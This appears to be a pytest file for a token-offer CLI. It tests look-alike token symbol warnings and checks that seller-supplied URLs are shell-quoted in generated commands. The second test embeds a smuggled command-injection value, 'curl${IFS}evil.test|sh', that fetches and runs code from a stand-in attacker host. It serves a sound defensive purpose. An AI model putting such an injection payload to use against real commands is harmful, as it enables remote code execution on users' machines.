"""What people read of an offer: two tokens whose symbols read alike are no one token."""

import shlex

import pytest

from mina.tokens import derive_token_id, from_base58
from sealrun.offers.asset import asset_of
from sealrun_cli.commands.credits.trading import _call
from sealrun_cli.lib.offer_lines import alike, buying, offer_lines
from tests.sealrun.offers.test_prices import TOKEN, both
from tests.sealrun.world import BUYER, make_offer, make_paid_offer


@pytest.mark.parametrize(("symbol", "warned"), [("RUN", True), ("run", True), ("JOB", False)])
def test_tokens_whose_symbols_read_alike_are_warned_of(symbol: str, *, warned: bool) -> None:
    owner = BUYER.public_key()
    asset = asset_of(derive_token_id(owner))
    other = {"asset": asset.id, "amount": "3", "decimals": 0, "symbol": symbol, "owner": owner.to_base58()}
    prices = sorted([both()[1], other], key=lambda each: from_base58(each["asset"]))
    offer = make_paid_offer(prices=prices)
    warning = "\n".join(alike(offer))
    assert bool(warning) == warned
    assert not warned or (f"RUN {TOKEN}" in warning and f"{symbol} {asset.id}" in warning)
    assert set(alike(offer)) <= set(offer_lines(offer))


def test_c1_a_first_command_runs_nothing_that_a_sellers_address_holds() -> None:
    url = f"https://calls.test/a;curl${{IFS}}evil.test|sh;/offers/{make_offer().id}"
    account = BUYER.public_key().to_base58()
    paid = _call(url, account, asset_of(from_base58(TOKEN)), "buyer.key")
    for command in (buying(make_offer(), url), buying(make_paid_offer(), url), paid):
        assert f" {shlex.quote(url)} --" in command
